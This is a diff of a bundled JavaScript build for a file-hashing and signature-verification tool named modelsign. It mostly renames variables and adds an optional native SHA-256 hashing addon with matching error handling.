@@ -1202,7 +1202,7 @@ var require_command = __commonJS({
   "node_modules/commander/lib/command.js"(exports) {
     var EventEmitter = __require("node:events").EventEmitter;
     var childProcess = __require("node:child_process");
-    var path21 = __require("node:path");
+    var path23 = __require("node:path");
     var fs2 = __require("node:fs");
     var process2 = __require("node:process");
     var { Argument: Argument2, humanReadableArgName } = require_argument();
@@ -2215,9 +2215,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let launchWithNode = false;
         const sourceExt = [".js", ".ts", ".tsx", ".mjs", ".cjs"];
         function findFile(baseDir, baseName) {
-          const localBin = path21.resolve(baseDir, baseName);
+          const localBin = path23.resolve(baseDir, baseName);
           if (fs2.existsSync(localBin)) return localBin;
-          if (sourceExt.includes(path21.extname(baseName))) return void 0;
+          if (sourceExt.includes(path23.extname(baseName))) return void 0;
           const foundExt = sourceExt.find(
             (ext2) => fs2.existsSync(`${localBin}${ext2}`)
           );
@@ -2235,17 +2235,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
           } catch {
             resolvedScriptPath = this._scriptPath;
           }
-          executableDir = path21.resolve(
-            path21.dirname(resolvedScriptPath),
+          executableDir = path23.resolve(
+            path23.dirname(resolvedScriptPath),
             executableDir
           );
         }
         if (executableDir) {
           let localFile = findFile(executableDir, executableFile);
           if (!localFile && !subcommand._executableFile && this._scriptPath) {
-            const legacyName = path21.basename(
+            const legacyName = path23.basename(
               this._scriptPath,
-              path21.extname(this._scriptPath)
+              path23.extname(this._scriptPath)
             );
             if (legacyName !== this._name) {
               localFile = findFile(
@@ -2256,7 +2256,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
           }
           executableFile = localFile || executableFile;
         }
-        launchWithNode = sourceExt.includes(path21.extname(executableFile));
+        launchWithNode = sourceExt.includes(path23.extname(executableFile));
         let proc;
         if (process2.platform !== "win32") {
           if (launchWithNode) {
@@ -3171,7 +3171,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @return {Command}
        */
       nameFromFilename(filename) {
-        this._name = path21.basename(filename, path21.extname(filename));
+        this._name = path23.basename(filename, path23.extname(filename));
         return this;
       }
       /**
@@ -3185,9 +3185,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [path]
        * @return {(string|null|Command)}
        */
-      executableDir(path22) {
-        if (path22 === void 0) return this._executableDir;
-        this._executableDir = path22;
+      executableDir(path24) {
+        if (path24 === void 0) return this._executableDir;
+        this._executableDir = path24;
         return this;
       }
       /**
@@ -3490,11 +3490,11 @@ var init_esm = __esm({
 });
 
 // src/errors.ts
-function reject(code, message, path21) {
-  return new ModelsignError(code, message, path21 === void 0 ? { kind: "reject" } : { kind: "reject", path: path21 });
+function reject(code, message, path23) {
+  return new ModelsignError(code, message, path23 === void 0 ? { kind: "reject" } : { kind: "reject", path: path23 });
 }
-function usage(code, message, path21) {
-  return new ModelsignError(code, message, path21 === void 0 ? { kind: "usage" } : { kind: "usage", path: path21 });
+function usage(code, message, path23) {
+  return new ModelsignError(code, message, path23 === void 0 ? { kind: "usage" } : { kind: "usage", path: path23 });
 }
 function toFailure(e) {
   return e.path === void 0 ? { code: e.code, message: e.message } : { code: e.code, path: e.path, message: e.message };
@@ -7984,17 +7984,17 @@ var require_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    function visit_(key, node, visitor, path21) {
-      const ctrl = callVisitor(key, node, visitor, path21);
+    function visit_(key, node, visitor, path23) {
+      const ctrl = callVisitor(key, node, visitor, path23);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path21, ctrl);
-        return visit_(key, ctrl, visitor, path21);
+        replaceNode(key, path23, ctrl);
+        return visit_(key, ctrl, visitor, path23);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path21 = Object.freeze(path21.concat(node));
+          path23 = Object.freeze(path23.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = visit_(i, node.items[i], visitor, path21);
+            const ci2 = visit_(i, node.items[i], visitor, path23);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -8005,13 +8005,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path21 = Object.freeze(path21.concat(node));
-          const ck = visit_("key", node.key, visitor, path21);
+          path23 = Object.freeze(path23.concat(node));
+          const ck = visit_("key", node.key, visitor, path23);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = visit_("value", node.value, visitor, path21);
+          const cv = visit_("value", node.value, visitor, path23);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -8032,17 +8032,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key, node, visitor, path21) {
-      const ctrl = await callVisitor(key, node, visitor, path21);
+    async function visitAsync_(key, node, visitor, path23) {
+      const ctrl = await callVisitor(key, node, visitor, path23);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path21, ctrl);
-        return visitAsync_(key, ctrl, visitor, path21);
+        replaceNode(key, path23, ctrl);
+        return visitAsync_(key, ctrl, visitor, path23);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path21 = Object.freeze(path21.concat(node));
+          path23 = Object.freeze(path23.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = await visitAsync_(i, node.items[i], visitor, path21);
+            const ci2 = await visitAsync_(i, node.items[i], visitor, path23);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -8053,13 +8053,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path21 = Object.freeze(path21.concat(node));
-          const ck = await visitAsync_("key", node.key, visitor, path21);
+          path23 = Object.freeze(path23.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path23);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = await visitAsync_("value", node.value, visitor, path21);
+          const cv = await visitAsync_("value", node.value, visitor, path23);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -8086,23 +8086,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key, node, visitor, path21) {
+    function callVisitor(key, node, visitor, path23) {
       if (typeof visitor === "function")
-        return visitor(key, node, path21);
+        return visitor(key, node, path23);
       if (identity.isMap(node))
-        return visitor.Map?.(key, node, path21);
+        return visitor.Map?.(key, node, path23);
       if (identity.isSeq(node))
-        return visitor.Seq?.(key, node, path21);
+        return visitor.Seq?.(key, node, path23);
       if (identity.isPair(node))
-        return visitor.Pair?.(key, node, path21);
+        return visitor.Pair?.(key, node, path23);
       if (identity.isScalar(node))
-        return visitor.Scalar?.(key, node, path21);
+        return visitor.Scalar?.(key, node, path23);
       if (identity.isAlias(node))
-        return visitor.Alias?.(key, node, path21);
+        return visitor.Alias?.(key, node, path23);
       return void 0;
     }
-    function replaceNode(key, path21, node) {
-      const parent = path21[path21.length - 1];
+    function replaceNode(key, path23, node) {
+      const parent = path23[path23.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key] = node;
       } else if (identity.isPair(parent)) {
@@ -8714,10 +8714,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node = require_Node();
-    function collectionFromPath(schema, path21, value) {
+    function collectionFromPath(schema, path23, value) {
       let v2 = value;
-      for (let i = path21.length - 1; i >= 0; --i) {
-        const k2 = path21[i];
+      for (let i = path23.length - 1; i >= 0; --i) {
+        const k2 = path23[i];
         if (typeof k2 === "number" && Number.isInteger(k2) && k2 >= 0) {
           const a = [];
           a[k2] = v2;
@@ -8736,7 +8736,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path21) => path21 == null || typeof path21 === "object" && !!path21[Symbol.iterator]().next().done;
+    var isEmptyPath = (path23) => path23 == null || typeof path23 === "object" && !!path23[Symbol.iterator]().next().done;
     var Collection = class extends Node.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -8766,11 +8766,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path21, value) {
-        if (isEmptyPath(path21))
+      addIn(path23, value) {
+        if (isEmptyPath(path23))
           this.add(value);
         else {
-          const [key, ...rest] = path21;
+          const [key, ...rest] = path23;
           const node = this.get(key, true);
           if (identity.isCollection(node))
             node.addIn(rest, value);
@@ -8784,8 +8784,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path21) {
-        const [key, ...rest] = path21;
+      deleteIn(path23) {
+        const [key, ...rest] = path23;
         if (rest.length === 0)
           return this.delete(key);
         const node = this.get(key, true);
@@ -8799,8 +8799,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path21, keepScalar) {
-        const [key, ...rest] = path21;
+      getIn(path23, keepScalar) {
+        const [key, ...rest] = path23;
         const node = this.get(key, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node) ? node.value : node;
@@ -8818,8 +8818,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path21) {
-        const [key, ...rest] = path21;
+      hasIn(path23) {
+        const [key, ...rest] = path23;
         if (rest.length === 0)
           return this.has(key);
         const node = this.get(key, true);
@@ -8829,8 +8829,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path21, value) {
-        const [key, ...rest] = path21;
+      setIn(path23, value) {
+        const [key, ...rest] = path23;
         if (rest.length === 0) {
           this.set(key, value);
         } else {
@@ -11345,9 +11345,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path21, value) {
+      addIn(path23, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path21, value);
+          this.contents.addIn(path23, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -11422,14 +11422,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path21) {
-        if (Collection.isEmptyPath(path21)) {
+      deleteIn(path23) {
+        if (Collection.isEmptyPath(path23)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path21) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path23) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -11444,10 +11444,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path21, keepScalar) {
-        if (Collection.isEmptyPath(path21))
+      getIn(path23, keepScalar) {
+        if (Collection.isEmptyPath(path23))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path21, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path23, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -11458,10 +11458,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path21) {
-        if (Collection.isEmptyPath(path21))
+      hasIn(path23) {
+        if (Collection.isEmptyPath(path23))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path21) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path23) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -11478,13 +11478,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path21, value) {
-        if (Collection.isEmptyPath(path21)) {
+      setIn(path23, value) {
+        if (Collection.isEmptyPath(path23)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path21), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path23), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path21, value);
+          this.contents.setIn(path23, value);
         }
       }
       /**
@@ -13445,9 +13445,9 @@ var require_cst_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    visit.itemAtPath = (cst, path21) => {
+    visit.itemAtPath = (cst, path23) => {
       let item = cst;
-      for (const [field, index] of path21) {
+      for (const [field, index] of path23) {
         const tok = item?.[field];
         if (tok && "items" in tok) {
           item = tok.items[index];
@@ -13456,23 +13456,23 @@ var require_cst_visit = __commonJS({
       }
       return item;
     };
-    visit.parentCollection = (cst, path21) => {
-      const parent = visit.itemAtPath(cst, path21.slice(0, -1));
-      const field = path21[path21.length - 1][0];
+    visit.parentCollection = (cst, path23) => {
+      const parent = visit.itemAtPath(cst, path23.slice(0, -1));
+      const field = path23[path23.length - 1][0];
       const coll = parent?.[field];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path21, item, visitor) {
-      let ctrl = visitor(item, path21);
+    function _visit(path23, item, visitor) {
+      let ctrl = visitor(item, path23);
       if (typeof ctrl === "symbol")
         return ctrl;
       for (const field of ["key", "value"]) {
         const token = item[field];
         if (token && "items" in token) {
           for (let i = 0; i < token.items.length; ++i) {
-            const ci2 = _visit(Object.freeze(path21.concat([[field, i]])), token.items[i], visitor);
+            const ci2 = _visit(Object.freeze(path23.concat([[field, i]])), token.items[i], visitor);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -13483,10 +13483,10 @@ var require_cst_visit = __commonJS({
             }
           }
           if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item, path21);
+            ctrl = ctrl(item, path23);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item, path21) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item, path23) : ctrl;
     }
     exports.visit = visit;
   }
@@ -17581,41 +17581,33 @@ var init_enumerate = __esm({
 
 // src/hashing/read.ts
 import { closeSync as closeSync2, constants as constants2, fstatSync, openSync as openSync2, readSync as readSync2 } from "node:fs";
-function hashRange(task, alg, buf, onRead) {
+function hashRange(task, alg, buf, progress) {
+  const onRead = typeof progress === "function" ? progress : progress ? (n) => void Atomics.add(progress.counters, progress.slot, BigInt(n)) : void 0;
   let fd;
   try {
     fd = openSync2(task.abs, constants2.O_RDONLY | O_NONBLOCK | (task.followLink ? 0 : O_NOFOLLOW));
   } catch (e) {
     const code = e.code;
-    if (code === "ELOOP") return { ok: false, code: "FILE_IS_SYMLINK", message: "file was replaced by a symlink" };
-    if (code === "ENOENT") return { ok: false, code: "FILE_MISSING", message: "file disappeared while verifying" };
+    if (code === "ELOOP") return { ok: false, code: "FILE_IS_SYMLINK", message: MSG.symlink };
+    if (code === "ENOENT") return { ok: false, code: "FILE_MISSING", message: MSG.missing };
     return { ok: false, code: "FILE_UNREADABLE", message: `cannot open: ${code ?? String(e)}` };
   }
   try {
     const before = fstatSync(fd);
-    if (!before.isFile()) return { ok: false, code: "SPECIAL_FILE", message: "not a regular file" };
+    if (!before.isFile()) return { ok: false, code: "SPECIAL_FILE", message: MSG.special };
     if (task.expectId && (before.ino !== task.expectId.ino || before.dev !== task.expectId.dev)) {
-      return { ok: false, code: "FILE_REPLACED", message: "a different file was found at this path than the one listed (replaced while verifying)" };
+      return { ok: false, code: "FILE_REPLACED", message: MSG.replaced };
     }
     if (before.size !== task.expectSize) {
-      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: "file size changed while it was being read" };
+      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.sizeMoved };
     }
-    const h = createHasher2(alg);
-    const size = buf.length;
-    let pos = task.start;
-    while (pos < task.end) {
-      const want = task.end - pos < size ? task.end - pos : size;
-      const n = readSync2(fd, buf, 0, want, pos);
-      if (n === 0) return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: "file shrank while it was being read" };
-      h.update(n === size ? buf : buf.subarray(0, n));
-      pos += n;
-      onRead?.(n);
-    }
+    const digest = readAndHash(fd, task, alg, buf, onRead);
+    if (digest === null) return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.shrank };
     const after = fstatSync(fd);
     if (after.size !== before.size || after.mtimeMs !== before.mtimeMs || after.ctimeMs !== before.ctimeMs) {
-      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: "file changed while it was being read" };
+      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.changed };
     }
-    return { ok: true, digest: h.digestHex() };
+    return { ok: true, digest };
   } catch (e) {
     const code = e.code;
     return { ok: false, code: "FILE_UNREADABLE", message: `cannot read: ${code ?? String(e.message ?? e)}` };
@@ -17623,14 +17615,134 @@ function hashRange(task, alg, buf, onRead) {
     closeSync2(fd);
   }
 }
-var READ_SIZE, O_NOFOLLOW, O_NONBLOCK;
+function readAndHash(fd, task, alg, buf, onRead) {
+  const h = createHasher2(alg);
+  const size = buf.length;
+  let pos = task.start;
+  while (pos < task.end) {
+    const want = task.end - pos < size ? task.end - pos : size;
+    const n = readSync2(fd, buf, 0, want, pos);
+    if (n === 0) return null;
+    h.update(n === size ? buf : buf.subarray(0, n));
+    pos += n;
+    onRead?.(n);
+  }
+  return h.digestHex();
+}
+var MSG, READ_SIZE, O_NOFOLLOW, O_NONBLOCK;
 var init_read = __esm({
   "src/hashing/read.ts"() {
     "use strict";
     init_algorithms2();
+    MSG = {
+      symlink: "file was replaced by a symlink",
+      missing: "file disappeared while verifying",
+      special: "not a regular file",
+      replaced: "a different file was found at this path than the one listed (replaced while verifying)",
+      sizeMoved: "file size changed while it was being read",
+      shrank: "file shrank while it was being read",
+      changed: "file changed while it was being read"
+    };
     READ_SIZE = 128 * 1024;
     O_NOFOLLOW = constants2.O_NOFOLLOW ?? 0;
     O_NONBLOCK = constants2.O_NONBLOCK ?? 0;
+  }
+});
+
+// src/hashing/native.ts
+import { existsSync } from "node:fs";
+import { createRequire as createRequire3 } from "node:module";
+import os from "node:os";
+import { fileURLToPath } from "node:url";
+function loadNative2() {
+  if (addon !== void 0) return addon;
+  if (process.env.MODELSIGN_NO_MMAP === "1") {
+    why = "disabled by MODELSIGN_NO_MMAP=1";
+    return addon = null;
+  }
+  if (!existsSync(ADDON_PATH)) {
+    why = "not built (`npm run build:native` needs a C compiler)";
+    return addon = null;
+  }
+  try {
+    const mod = createRequire3(import.meta.url)(ADDON_PATH);
+    if (typeof mod.hashFiles !== "function") throw new Error("no hashFiles export");
+    return addon = mod;
+  } catch (e) {
+    why = `failed to load: ${String(e.message ?? e).split("\n")[0]}`;
+    return addon = null;
+  }
+}
+function nativeLikely() {
+  return addon !== void 0 ? addon !== null : process.env.MODELSIGN_NO_MMAP !== "1" && existsSync(ADDON_PATH);
+}
+function outcome(status, errno, digest) {
+  switch (status) {
+    case 0:
+      return { ok: true, digest: digest.toString("hex") };
+    case 1:
+      return { ok: false, code: "FILE_IS_SYMLINK", message: MSG.symlink };
+    case 2:
+      return { ok: false, code: "FILE_MISSING", message: MSG.missing };
+    case 3:
+      return { ok: false, code: "FILE_UNREADABLE", message: `cannot open: ${errName(errno)}` };
+    case 4:
+      return { ok: false, code: "SPECIAL_FILE", message: MSG.special };
+    case 5:
+      return { ok: false, code: "FILE_REPLACED", message: MSG.replaced };
+    case 6:
+      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.sizeMoved };
+    case 7:
+      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.shrank };
+    case 8:
+      return { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.changed };
+    case 9:
+      return { ok: false, code: "FILE_UNREADABLE", message: `cannot read: ${errName(errno)}` };
+    default:
+      return { ok: false, code: "FILE_UNREADABLE", message: "cannot hash: SHA-256 failed (out of memory?)" };
+  }
+}
+async function hashNative(nat, all, o) {
+  const bad5 = all.map(outOfRange);
+  const tasks = bad5.some(Boolean) ? all.filter((_2, i) => !bad5[i]) : all;
+  const n = tasks.length;
+  const start = new Float64Array(n);
+  const end = new Float64Array(n);
+  const size = new Float64Array(n);
+  const dev = new Float64Array(n);
+  const ino = new Float64Array(n).fill(NaN);
+  const flags = new Uint8Array(n);
+  const paths = new Array(n);
+  for (let i = 0; i < n; i++) {
+    const t = tasks[i];
+    paths[i] = t.abs;
+    start[i] = t.start;
+    end[i] = t.end;
+    size[i] = t.expectSize;
+    if (t.expectId) {
+      dev[i] = t.expectId.dev;
+      ino[i] = t.expectId.ino;
+    }
+    flags[i] = (t.followLink ? 1 : 0) | (o.noWindowCheck ? 2 : 0);
+  }
+  const r = n === 0 ? { status: Buffer.alloc(0), errno: Buffer.alloc(0), digests: Buffer.alloc(0) } : await nat.hashFiles(paths, start, end, size, dev, ino, flags, o.threads, o.counters ?? null, o.slot ?? 0, o.hook ?? null, MODE[o.kernel ?? "auto"]);
+  const out2 = new Array(n);
+  for (let i = 0; i < n; i++) out2[i] = outcome(r.status.readInt32LE(4 * i), r.errno.readInt32LE(4 * i), r.digests.subarray(32 * i, 32 * i + 32));
+  if (tasks === all) return out2;
+  let j2 = 0;
+  return all.map((_2, i) => bad5[i] ? { ok: false, code: "FILE_CHANGED_DURING_HASH", message: MSG.shrank } : out2[j2++]);
+}
+var ADDON_PATH, addon, why, ERRNO_NAMES, errName, MODE, outOfRange;
+var init_native = __esm({
+  "src/hashing/native.ts"() {
+    "use strict";
+    init_read();
+    ADDON_PATH = fileURLToPath(new URL("../../native/build/Release/modelsign_native.node", import.meta.url));
+    why = "";
+    ERRNO_NAMES = new Map(Object.entries(os.constants.errno).map(([k2, v2]) => [v2, k2]));
+    errName = (n) => ERRNO_NAMES.get(n) ?? `errno ${n}`;
+    MODE = { auto: 0, openssl: 1, x1: 2 };
+    outOfRange = (t) => !(Number.isSafeInteger(t.start) && Number.isSafeInteger(t.end) && Number.isSafeInteger(t.expectSize) && 0 <= t.start && t.start <= t.end && t.end <= t.expectSize);
   }
 });
 
@@ -17644,17 +17756,17 @@ __export(engine_exports, {
   prewarmHashPool: () => prewarmHashPool,
   shutdownHashPool: () => shutdownHashPool
 });
-import os from "node:os";
-import { existsSync } from "node:fs";
-import { fileURLToPath } from "node:url";
+import os2 from "node:os";
+import { existsSync as existsSync2 } from "node:fs";
+import { fileURLToPath as fileURLToPath2 } from "node:url";
 import { Worker } from "node:worker_threads";
 function workerUrl() {
   const here = new URL("./worker.js", import.meta.url);
-  if (existsSync(fileURLToPath(here))) return here;
+  if (existsSync2(fileURLToPath2(here))) return here;
   return new URL("../../dist/hashing/worker.js", import.meta.url);
 }
 function defaultJobs() {
-  return Math.max(1, typeof os.availableParallelism === "function" ? os.availableParallelism() : os.cpus().length);
+  return Math.max(1, typeof os2.availableParallelism === "function" ? os2.availableParallelism() : os2.cpus().length);
 }
 function resolveJobs(jobs) {
   return Math.max(1, Math.min(jobs ?? defaultJobs(), MAX_JOBS));
@@ -17663,6 +17775,7 @@ function lastEngineRun() {
   return lastRun;
 }
 function prewarmHashPool(opts = {}) {
+  if ((opts.alg ?? "sha256") === "sha256" && opts.readSize === void 0 && nativeLikely() && loadNative2()) return;
   const size = resolveJobs(opts.jobs);
   const readSize = opts.readSize ?? READ_SIZE;
   if (shared && !shared.broken && shared.size === size && shared.readSize === readSize) return;
@@ -17689,6 +17802,25 @@ function hashInline(tasks, alg, total, readSize, opts) {
   const onRead = opts.onProgress ? (n) => opts.onProgress(done += n, total) : void 0;
   return tasks.map((t) => hashRange(t, alg, buf, onRead));
 }
+async function runNative(nat, tasks, sizes, total, jobs, opts) {
+  const order = sizes.map((_2, i) => i).sort((a, b2) => sizes[b2] - sizes[a] || a - b2);
+  const small = total <= INLINE_BYTES && tasks.length <= INLINE_TASKS;
+  const threads = small ? 1 : Math.min(jobs, tasks.length);
+  const counters = new BigInt64Array(new SharedArrayBuffer(8));
+  const report2 = () => opts.onProgress?.(Math.min(total, Number(Atomics.load(counters, 0))), total);
+  report2();
+  const timer = opts.onProgress ? setInterval(report2, PROGRESS_TICK_MS) : void 0;
+  try {
+    const sorted = await hashNative(nat, order.map((i) => tasks[i]), { threads, counters, slot: 0 });
+    report2();
+    const results = new Array(tasks.length);
+    order.forEach((idx, j2) => results[idx] = sorted[j2]);
+    lastRun = { mode: "native", threadsUsed: threads };
+    return results;
+  } finally {
+    if (timer) clearInterval(timer);
+  }
+}
 async function hashTasks(tasks, alg, opts = {}) {
   try {
     return await runTasks(tasks, alg, opts);
@@ -17704,6 +17836,8 @@ async function runTasks(tasks, alg, opts) {
   const jobs = resolveJobs(opts.jobs);
   const readSize = opts.readSize ?? READ_SIZE;
   await prepareAlgorithm(alg);
+  const nat = alg === "sha256" && opts.mmap !== false ? loadNative2() : null;
+  if (nat) return runNative(nat, tasks, sizes, total, jobs, opts);
   if (total <= INLINE_BYTES && tasks.length <= INLINE_TASKS) {
     lastRun = { mode: "inline", threadsUsed: 0 };
     return hashInline(tasks, alg, total, readSize, opts);
@@ -17808,6 +17942,7 @@ var init_engine = __esm({
     "use strict";
     init_algorithms2();
     init_read();
+    init_native();
     MAX_JOBS = 64;
     INLINE_BYTES = 8 * 1024 * 1024;
     INLINE_TASKS = 128;
@@ -17962,9 +18097,9 @@ async function checkFiles(input) {
       const only = listing.files[0];
       if (p2 === "." || p2 === only.name) p2 = only.name;
     } else if (p2 !== "." || ser.method !== "files") {
-      const why = unsafeNameReason(p2);
-      if (why) {
-        failures.push({ code: "UNSAFE_NAME", path: p2, message: `unsafe resource name in signature: ${why}` });
+      const why2 = unsafeNameReason(p2);
+      if (why2) {
+        failures.push({ code: "UNSAFE_NAME", path: p2, message: `unsafe resource name in signature: ${why2}` });
         continue;
       }
     }
@@ -19254,8 +19389,8 @@ ${name2}`;
     const full = `${imp.module}.${imp.name}`;
     const how = `via ${imp.via.join("/") || "memo"}${imp.usedBy.length ? `, used by ${imp.usedBy.join("/")}` : ""}`;
     if (imp.verdict === "dangerous") {
-      const why = classifyGlobal(imp.module, imp.name).why ?? "dangerous";
-      add("critical", "PICKLE_DANGEROUS_GLOBAL", `imports ${full} (${why}) ${how}; loading this file can run code`, void 0, full);
+      const why2 = classifyGlobal(imp.module, imp.name).why ?? "dangerous";
+      add("critical", "PICKLE_DANGEROUS_GLOBAL", `imports ${full} (${why2}) ${how}; loading this file can run code`, void 0, full);
     } else {
       add("medium", "PICKLE_UNKNOWN_GLOBAL", `imports ${full}, which is not on the allow-list for weights (${how})`, void 0, full);
     }
@@ -19827,7 +19962,7 @@ function Yn(s3, t) {
 function Kn(s3, t) {
   s3.head = new ue(t, void 0, s3.head, s3), s3.tail || (s3.tail = s3.head), s3.length++;
 }
-var zr, Ur, Ds, Wr, Gr, Zr, Q, J, nt, De, qt, Ne, Ns, Ae, As, z, Mt, g, Qt, Bt, b, N, _, bi, Ie, L, S, _i, Oi, Is, Ti, Z, xi, Ce, Jt, Rt, C, jt, Yr, Kr, Vr, $r, Fe, Li, Xr, qr, A, Jr, ht, H, te, m, Ni, tt, Ai, ki, vi, ie, ke, Ut, Ht, Ii, Pt, at, U, ot, Y, zt, Ci, j, ee, Fi, ve, gt, Me, bt, _t, Be, et, Wt, jr, Fs, ks, vs, Ms, Bs, tn, se, K, sn, M, rn, zs, nn, Bi, Tt, Gt, Pi, re, Pe, ze, Ue, He, We, Ge, Ze, Ye, Ke, Us, hn, an, Hs, ln, cn, Ws, Gs, Hi, ne, dn, Ui, oe, Ve, un, F, mn, xt, Wi, pn, lt, En, wn, Sn, ct, yn, Rn, gn, Gi, bn, Lt, ft, On, Tn, xn, Ln, f, $e, Dt, Nn, Xi, qi, An, B, Nt, it, Zi, Zs, V, he, dt, Ys, p, st, ut, Yi, At, w, Xe, qe, Ki, Ks, Vs, ae, Vi, Qe, Yt, $, Je, It, je, ti, $s, In, le, $i, Xs, Cn, rt, mt, vn, Qi, Mn, Bn, Ct, Ji, zn, qs, ce, ei, ji, Un, Hn, ts, Qs, rr, Wn, tr, er, ir, is, sr, fe, ii, ss, si, rs, ns, os2, hs, pt, ri, as, es, q, de, ni, oi, Gn, hi, ue, pi, nr, li, me, W, pe, Et, Ft, Ee, ai, G, ls, ci, or, ds, us, fi, di, hr, cs, ui, lr, fs, wt, kt, Vn, $n, fr, dr, Xn, qn, Qn, Jn, Er, wr, ur, Sr, yr, Rr, jn, to, eo, mr, ms, ps, Ei, io, Es, so, ws, Se, St, no, gr, Ss, br, oo, _r, ys, Or, Vt, Tr, ho, ao, lo, yi, Lr, Dr, _s, Nr, Os, P, Ts, xs, gi, Ar, Ir, Re, Cr, Fr, Rs, yt, O, Ri, kr, $t, gs, bs, Ls, ge, be, _e, Oe, fo, Te, uo, mo, po, vr, Xt, ye, xe, Eo, wo, So, yo, Ro, go, bo, _o, vt, Oo, To;
